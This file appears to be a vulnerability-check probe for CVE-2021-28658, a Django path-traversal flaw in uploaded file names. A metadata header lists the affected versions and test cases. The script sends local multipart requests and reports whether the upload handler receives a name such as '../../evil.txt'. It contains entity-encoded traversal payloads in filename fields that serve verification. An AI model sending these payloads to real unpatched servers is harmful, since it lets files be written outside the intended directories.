# /// vertice-probe
# id = "PYSEC-2021-6"
# aliases = ["CVE-2021-28658", "GHSA-xgxc-v2qg-chmh"]
# package = "django"
# summary = """\
#   The path is taken off an uploaded file's name before HTML entities in it are resolved, so upload handlers get \
#   names with ../ in them."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:L/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = [
#   "django.http.multipartparser.MultiPartParser",
#   "django.core.files.uploadhandler.FileUploadHandler",
#   "django.http.HttpRequest",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "2.2" },
#   { fixed = "2.2.20" },
#   { introduced = "3.0" },
#   { fixed = "3.0.14" },
#   { introduced = "3.1" },
#   { fixed = "3.1.8" },
# ] }]
#
# [cases]
# attack = "a file name with &#x2F; reaches the upload handler as ../../evil.txt"
# [cases.variants]
# extended = "the same with other entities in the filename* form"
# [cases.controls]
# plain = "plain names arrive, paths of browsers are taken off"
#
# [test]
# vulnerable = "3.1.7"
# fixed = "3.1.8"
# python = "<3.12"
# ///
"""CVE-2021-28658: path traversal in the names of uploaded files."""

import io
import json
import sys
from wsgiref.util import setup_testing_defaults


def upload(*parts):
    """The file names that a site's own upload handler gets; a part is what stands after `name="f"; `."""
    import django
    from django.conf import settings

    settings.configure(SECRET_KEY="probe")
    django.setup()
    from django.core.files.uploadhandler import FileUploadHandler
    from django.core.handlers.wsgi import WSGIRequest

    names = []

    class Handler(FileUploadHandler):
        def new_file(self, field_name, file_name, *args, **kwargs):
            names.append(file_name)

        def receive_data_chunk(self, raw_data, start):
            if raw_data != b"hello":
                raise RuntimeError("unexpected content %r" % raw_data)

        def file_complete(self, file_size):
            return None

    body = b""
    for part in parts:
        head = '--frontier\r\nContent-Disposition: form-data; name="f"; %s\r\n' % part
        body += head.encode() + b"Content-Type: text/plain\r\n\r\nhello\r\n"
    body += b"--frontier--\r\n"
    environ = {
        "REQUEST_METHOD": "POST",
        "CONTENT_TYPE": "multipart/form-data; boundary=frontier",
        "CONTENT_LENGTH": str(len(body)),
        "wsgi.input": io.BytesIO(body),
    }
    setup_testing_defaults(environ)
    request = WSGIRequest(environ)
    request.upload_handlers = [Handler(request)]
    request.FILES  # noqa: B018 - reading it parses the body
    return names


def judge(part):
    names = upload(part)
    if names == ["evil.txt"]:
        return "blocked", "the upload handler gets evil.txt, without the path"
    if len(names) == 1 and names[0].endswith("../evil.txt"):
        return "exploited", "the upload handler gets %s" % names[0]
    raise RuntimeError("unexpected names %r" % names)


def attack():
    return judge('filename="..&#x2F;..&#x2F;evil.txt"')


def extended():
    return judge("filename*=UTF-8''..%26%2347%3B..%26sol%3Bevil.txt")


def plain():
    names = upload('filename="report 1.txt"', 'filename="C:\\\\docs\\\\b.txt"', 'filename="/etc/c.txt"')
    return ("works" if names == ["report 1.txt", "b.txt", "c.txt"] else "broken"), repr(names)


CASES = {"attack": attack, "extended": extended, "plain": plain}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
